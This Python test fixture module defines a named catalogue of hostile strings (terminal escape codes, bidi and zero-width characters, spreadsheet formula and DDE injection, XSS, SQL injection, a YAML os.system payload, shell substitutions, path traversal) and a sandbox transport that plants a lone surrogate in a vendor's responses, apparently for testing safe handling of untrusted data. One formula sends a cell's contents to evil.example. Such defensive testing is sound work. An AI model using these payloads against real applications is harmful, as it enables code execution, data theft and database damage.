"""Texts that attack what prints, stores or queries them, each with a name; and a transport that puts into a vendor's
answers what no JSON encoder of ours would write. No I/O."""

from __future__ import annotations

from collections.abc import Mapping
from typing import ClassVar, Final

import httpx

from syncctl.sandbox.base import SandboxTransport

TEXTS: Final = {
    "clears the screen": "\x1b[2J\x1b[1;1HPAID",
    "sets the title": "\x1b]0;owned\x07Acme",
    "terminal link": "\x1b]8;;https://evil.example\x1b\\Pay here\x1b]8;;\x1b\\",
    "C1 escape": "Acme\x9b31m red",
    "backspaces": "Total 10\b\b99",
    "carriage return": "Acme\rEvil",
    "second row": "Acme\n| fake | row |\n{}",
    "zero byte": "Acme\x00Corp",
    "right to left": "Acme \u202egnp.exe",
    "isolate": "\u2066Acme\u2069 \u2067evil",
    "zero width": "Ac\u200bme\ufeff Co\u00ad",
    "line separator": "Acme\u2028Evil\u2029x\x85y",
    "tag letters": "Acme\U000e0041\U000e0042",
    "marks piled up": "Z" + "\u0301" * 40,
    "rich markup": "[bold red]PAID[/bold red] [/] [link=https://evil.example]x[/link] :skull:",
    "formula": '=HYPERLINK("https://evil.example?"&A1,"x")',
    "formula, plus": "+1+cmd|' /C calc'!A0",
    "formula, minus": "-2+3",
    "formula, at": "@SUM(A1:A9)",
    "formula behind a tab": "\t=1+1",
    "formula behind a return": "\r=1+1",
    "formula, full width": "＝1+1",
    "formula behind a blank": " =1+1",
    "cell break": 'a","=1+1","b',
    "cell break, semicolon": "a;=1+1;b",
    "script": "<script>alert(document.domain)</script>",
    "picture": '"><img src=x onerror=alert(1)>',
    "markdown": "![x](https://evil.example/x.png) **b** `c` ~~d~~ <u>",
    "table row": "a | b |\n| --- | --- |",
    "apostrophes": "O'Brien' OR '1'='1",
    "backslash and apostrophe": "x\\' OR Id > '0",
    "quotes": 'say "hi" \\" OR Name != "',
    "wildcards": "100% _ * %",
    "statement": "'; DROP TABLE records; --",
    "parentheses": "a') OR (Name LIKE '%",
    "yaml alias": "&a [*a, *a]",
    "yaml tag": "!!python/object/apply:os.system ['id']",
    "yaml types": "NO",
    "json": '"},{"id":"cus_evil"',
    "templates": "{0} %s %(x)s ${HOME} {{7*7}} $(id) `id`",
    "folders up": "../../../etc/passwd",
    "device name": "C:\\CON\\nul",
    "not a number": "NaN",
    "endless number": "1e400",
    "one long word": "W" * 300,
}
"""By name. Nothing here may be obeyed by whatever shows, stores or asks with it."""
MEMO: Final = "pay\x1b[2J " * 520_000
"""5 MB."""
NUMBER: Final = 987_654_321
PUT_IN: Final = {b'"@lone surrogate@"': b'"Acme \\ud800 Corp"'}
"""What stands in a seeded record, and what the vendor's answer then holds in its place."""


class Hostile(SandboxTransport):
    """A vendor whose answers hold what `put_in` says."""

    put_in: ClassVar[Mapping[bytes, bytes]] = PUT_IN

    def handle_request(self, request: httpx.Request) -> httpx.Response:
        answer = super().handle_request(request)
        body = answer.content
        for mark, attack in self.put_in.items():
            body = body.replace(mark, attack)
        return httpx.Response(answer.status_code, headers=answer.headers, content=body, request=request)
